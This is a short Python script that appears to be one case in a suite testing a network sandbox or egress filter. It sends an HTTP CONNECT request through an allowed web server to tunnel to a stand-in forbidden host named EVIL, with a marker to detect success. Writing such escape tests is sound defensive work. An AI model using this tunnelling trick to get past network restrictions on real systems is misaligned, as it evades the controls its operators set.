# SPDX-License-Identifier: Apache-2.0
"""A tunnel through the allowed web server (CONNECT) to another host."""
from aim import EVIL, GOOD, MARK, resolve, run, tcp, tell


def attempt():
    s = tcp(resolve(GOOD), 80)
    tell(s, b"CONNECT " + EVIL.encode() + b":443 HTTP/1.1\r\nHost: " + EVIL.encode() + b"\r\n\r\n" + MARK)


run(attempt)
